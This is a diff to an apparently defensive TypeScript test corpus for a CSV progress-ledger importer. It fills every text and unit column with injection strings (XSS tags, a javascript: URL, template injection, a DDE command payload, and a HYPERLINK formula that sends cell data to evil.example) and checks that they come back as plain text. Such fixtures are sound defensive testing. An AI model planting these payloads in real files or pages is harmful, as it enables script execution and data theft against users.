@@ -6,16 +6,30 @@ const HEAD = ['事项编号', '报告月份', '进度%', '进展情况'];
 const LINES = rowsOf('row | item | month | progress | text\n 2 | 04 | 2023-11 | 80 | 已批复');
 const MEGA = 1_048_576;
 
-const TEXTS = ['进展情况', '存在问题', '需协调事项', '下一步', '佐证', '目标', '责任单位'] as const;
+/** Text columns of the ledger and what each is in a line. */
+const TEXTS = {
+  目标: 'target',
+  进展情况: 'text',
+  存在问题: 'difficulty',
+  需协调事项: 'need',
+  下一步: 'next',
+  佐证: 'evidence',
+} as const;
+/** Columns of units, and how a line names them. */
+const UNITS = { 渝方牵头单位: '渝牵头', 川方牵头单位: '川牵头', 责任单位: '责任', 配合单位: '配合' } as const;
+const TAG = '<img src=x onerror=alert(1)>';
 const NASTY = [
-  '<img src=x onerror=alert(1)>',
+  TAG,
   '<script>document.title="owned"</script>',
   '=HYPERLINK("http://evil.example/?"&A1,"点击")',
-  "+cmd¦' /C calc'!A0".replace('¦', '|'),
+  "+cmd|' /C calc'!A0",
   '@SUM(1+1)*cmd',
   'javascript:alert(1)',
   '{{constructor.constructor("alert(1)")()}}',
 ] as const;
+const ITEMS = NASTY.map((_, at) => `${at + 4}`.padStart(2, '0'));
+/** Each text once in each column. */
+const nasty = (row: number, column: number) => NASTY[(row + column) % NASTY.length] ?? TAG;
 
 /** Cells made to run as something. */
 export const INJECTED: readonly CorpusCase[] = [
@@ -25,8 +39,13 @@ export const INJECTED: readonly CorpusCase[] = [
       {
         name: '注入.csv',
         bytes: textSheet([
-          ['事项编号', '报告月份', ...TEXTS],
-          ['2023H2-04', '2023-11', ...NASTY],
+          ['事项编号', '报告月份', ...Object.keys(UNITS), ...Object.keys(TEXTS)],
+          ...ITEMS.map((item, row) => [
+            `2023H2-${item}`,
+            '2023-11',
+            ...Object.keys(UNITS).map(() => TAG),
+            ...Object.keys(TEXTS).map((_, column) => nasty(row, column)),
+          ]),
         ]),
       },
     ],
@@ -35,19 +54,15 @@ export const INJECTED: readonly CorpusCase[] = [
         {
           file: '注入.csv',
           taken: 'ledger',
-          lines: [
-            {
-              row: '2',
-              item: '04',
-              text: NASTY[0],
-              difficulty: NASTY[1],
-              need: NASTY[2],
-              next: NASTY[3],
-              evidence: NASTY[4],
-              target: NASTY[5],
-              units: `责任:${NASTY[6]}`,
-            },
-          ],
+          lines: ITEMS.map((item, row) => ({
+            row: `${row + 2}`,
+            item,
+            units: Object.values(UNITS)
+              .map((role) => `${role}:${TAG}`)
+              .sort()
+              .join(' '),
+            ...Object.fromEntries(Object.values(TEXTS).map((field, column) => [field, nasty(row, column)])),
+          })),
         },
       ],
       issues: [],
